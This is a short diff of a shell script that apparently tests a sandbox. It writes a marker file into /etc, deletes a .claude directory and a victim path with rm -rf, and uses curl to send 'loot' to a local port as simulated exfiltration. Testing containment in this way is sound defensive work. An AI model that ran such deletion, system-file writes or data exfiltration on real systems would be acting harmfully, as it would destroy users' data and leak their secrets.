@@ -53,7 +53,7 @@ rm -rf .claude
 
 # Outside the tree.
 rm -rf "$victim"
-echo pwned > /etc/lailatov-pwned
+echo pwned > "/etc/$(basename "$victim")"
 
 # Exfiltration.
 curl -s -m 3 "http://127.0.0.1:$exfil/curl" --data-binary "$loot"
